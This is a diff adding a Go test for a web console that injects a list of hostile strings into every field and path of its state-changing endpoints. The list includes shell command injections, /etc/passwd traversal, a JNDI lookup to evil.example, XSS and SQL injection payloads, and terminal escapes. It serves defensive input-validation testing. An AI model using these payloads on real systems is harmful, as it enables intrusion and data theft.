@@ -1,0 +1,175 @@
+package webconsole
+
+import (
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+)
+
+// hostile are texts that some program somewhere has taken for more than text.
+var hostile = []string{
+	"$(reboot)", "`reboot`", ";id", "| id", "&& id", "|| reboot", "%0aid", "x\nid", "x\r\nSet-Cookie: a=b", "' or '1'='1", `"; id; "`,
+	"../../../../etc/passwd", "/etc/passwd\x00.pem", "--help", "-oProxyCommand=id", "{{.}}", "{{template \"frame.html\" .}}", "${jndi:ldap://evil.example/a}",
+	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)", "%s%n%d%x", "\x00", "a\x00b",
+	"\x1b[2J\x1b]0;owned\x07", "\u009b31m", "\u202egnp.exe", "\u2066hidden\u2069", "\ufffe", "\U000e0041", "admin ", "АДМИН",
+	strings.Repeat("A", 10<<10), strings.Repeat("9", 400), "169.254.169.254", "0x7f.1", "::ffff:127.0.0.1", "1.2.3.4/0", "127.0.0.1", "255.255.255.255", "file:///etc/passwd", "-1", "1e9", "NaN",
+}
+
+// valid are bodies to put one hostile text into. An endpoint that is not named
+// gets its sample, with every other field empty.
+var valid = map[string]string{
+	"setNetwork":         `{"hostname":"box","eth0":{"mode":"static","address":"10.0.0.5/24","netmask":"","gateway":"10.0.0.1","mtu":"1500"},"ipv6":{"mode":"static","address":"2001:db8::5/64","gateway":"2001:db8::1"},"slave":"10.0.0.6/24","routes":[{"destination":"10.9.0.0/16","gateway":"10.0.0.2"}],"dns":{"servers":["10.0.0.3"],"search":["example.org"]},"ntp":{"servers":["ntp.example.org"],"off":false},"proxy":{"host":"proxy.example.org","port":"3128","user":"u","password":"p","except":["example.org"]},"firewall":{"allow":{"console":["10.0.0.0/8"]}}}`,
+	"setConnector":       `{"token":"","zoneController":"10.0.0.5","router":"10.0.0.5","otherZoneController":"10.0.0.9","publicName":"meet.example.org","external":[{"local":"10.0.0.5","external":"192.0.2.1"}]}`,
+	"addAccount":         `{"name":"olga","authority":"operate","password":"a good long password"}`,
+	"addToken":           `{"title":"monitoring","authority":"view","days":"30"}`,
+	"requestCertificate": `{"names":["meet.example.org"],"organization":"Example","country":"DE"}`,
+	"diagnose":           `{"tool":"lookup","host":"localhost","port":"443","server":"127.0.0.1","type":"A","proxy":false}`,
+	"changePassword":     `{"current":"wrong","new":"another good password","confirm":"another good password"}`,
+}
+
+// freely are fields that take nearly any text.
+var freely = []string{"password", "title", "organization", "proxy.user", "proxy.password", "current", "new", "confirm"}
+
+// In every field of every endpoint that changes something, and in every part of
+// its path, hostile text is refused with the field's name, or kept and shown as
+// the text that it is.
+func TestAttackInjection(t *testing.T) {
+	for _, e := range writes(newRig(t, testPassword).c) {
+		t.Run(e.ID, func(t *testing.T) {
+			r := newRig(t, testPassword)
+			admin := r.loggedIn()
+			if e.Request != nil {
+				body := e.body()
+				if v, ok := valid[e.ID]; ok {
+					body = []byte(v)
+				}
+				r.injectFields(t, admin, e, body)
+			}
+			r.injectPath(t, admin, e)
+			r.shownAsText(t, admin)
+			quiet(t, r)
+			for _, q := range r.server.Asked() {
+				if s := fmt.Sprintf("%+v", q); hostileIn(s) {
+					t.Errorf("PID 1 was asked for %s", s)
+				}
+			}
+		})
+	}
+}
+
+func hostileIn(text string) bool {
+	for _, h := range hostile {
+		if strings.ContainsAny(h, "$`;|&<{\x1b\x00") && strings.Contains(text, h) {
+			return true
+		}
+	}
+	return false
+}
+
+func (r *rig) injectFields(t *testing.T, admin *browser, e endpoint, body []byte) {
+	t.Helper()
+	var v any
+	if err := json.Unmarshal(body, &v); err != nil {
+		t.Fatal(err)
+	}
+	fields := stringPaths(v)
+	if len(fields) == 0 {
+		t.Errorf("%s takes a body and no text was found in it: %s", e.ID, body)
+	}
+	for _, path := range fields {
+		parts := make([]string, len(path))
+		for i, p := range path {
+			parts[i] = fmt.Sprint(p)
+		}
+		field := strings.Join(parts, ".")
+		for _, h := range hostile {
+			b, err := json.Marshal(with(v, path, h))
+			if err != nil {
+				t.Fatal(err)
+			}
+			a := admin.call(e.Method, concrete(e.Path), b, nil)
+			switch {
+			case a.failed():
+				t.Errorf("%s with %q in %s: status %d\n%.300s", e.ID, cut(h, 40), field, a.status, a.body)
+			case a.status == http.StatusUnprocessableEntity:
+				p, named := a.problem(t), false
+				for _, f := range p.Fields {
+					// A list is told by its name or by the number of its line.
+					named = named || f.Field == field || strings.HasPrefix(field, f.Field+".") || strings.HasPrefix(f.Field, field+".")
+				}
+				if !named && !freeField(field) && !harmless(h) && !otherFault(e, p, field) {
+					t.Errorf("%s with %q in %s: the field is not among %+v", e.ID, cut(h, 40), field, p.Fields)
+				}
+				if strings.Contains(a.body, "<script>") {
+					t.Errorf("%s: the error gives %q back as it was", e.ID, h)
+				}
+			}
+		}
+	}
+}
+
+func freeField(field string) bool {
+	for _, f := range freely {
+		if field == f {
+			return true
+		}
+	}
+	return false
+}
+
+// harmless are texts that may be right where an address, a number or a name is
+// expected.
+func harmless(h string) bool {
+	switch h {
+	case "169.254.169.254", "::ffff:127.0.0.1", "1.2.3.4/0", "127.0.0.1", "255.255.255.255", "-1", "1e9", "NaN", "admin ", "0x7f.1", "АДМИН", "--help":
+		return true
+	}
+	return strings.HasPrefix(h, "999")
+}
+
+// otherFault reports whether what is wrong is another field, which is checked
+// first: a wrong password hides what else is wrong.
+func otherFault(e endpoint, p Problem, field string) bool {
+	for _, f := range p.Fields {
+		if f.Field == "current" || f.Field == "tool" {
+			return true
+		}
+	}
+	return false
+}
+
+func (r *rig) injectPath(t *testing.T, admin *browser, e endpoint) {
+	t.Helper()
+	for _, m := range pathParam.FindAllStringIndex(e.Path, -1) {
+		for _, h := range hostile {
+			if len(h) > 2000 {
+				h = h[:2000]
+			}
+			path := concrete(e.Path[:m[0]]) + url.PathEscape(h) + concrete(e.Path[m[1]:])
+			a := admin.call(e.Method, path, e.body(), nil)
+			if a.status < 300 || a.failed() {
+				t.Errorf("%s %s: status %d\n%.300s", e.Method, cut(path, 100), a.status, a.body)
+			}
+		}
+	}
+}
+
+// shownAsText fails when a page shows text of somebody as markup, or with
+// characters that rule a terminal.
+func (r *rig) shownAsText(t *testing.T, admin *browser) {
+	t.Helper()
+	for _, p := range r.c.pages {
+		a := admin.get(concrete(p.Path))
+		if a.failed() {
+			t.Errorf("GET %s: %d", p.Path, a.status)
+		}
+		for _, bad := range []string{"<script>alert", "<img src=x", `href="javascript:`, "\x00", "\x1b", "\u009b"} {
+			if strings.Contains(a.body, bad) {
+				t.Errorf("%s has %q", p.Path, bad)
+			}
+		}
+	}
+}
